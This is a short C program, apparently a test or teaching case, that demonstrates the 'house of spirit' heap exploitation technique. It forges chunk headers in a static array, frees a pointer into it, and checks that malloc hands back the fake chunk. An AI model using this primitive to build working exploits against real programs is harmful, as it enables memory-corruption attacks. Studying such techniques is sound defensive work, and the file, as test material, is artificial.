/*
 * metadata: the program is tricked into freeing a structure that was never part of the heap. It
 * looks like a chunk and joins the list of its size, and malloc returns it ("the house of spirit").
 */
#include "attack.h"

static _Alignas(16) Word fake[20];

int main(void) {
  settle(40);
  allocate(40);
  fake[1] = 0x41; /* a chunk of 64 bytes, */
  fake[9] = 0x41; /* and two after it, in use */
  fake[17] = 0x41;
  release((void *)(fake + 2));
  Word *taken = allocate(56);
  return taken == fake + 2 ? GOAL_REACHED : 0;
}
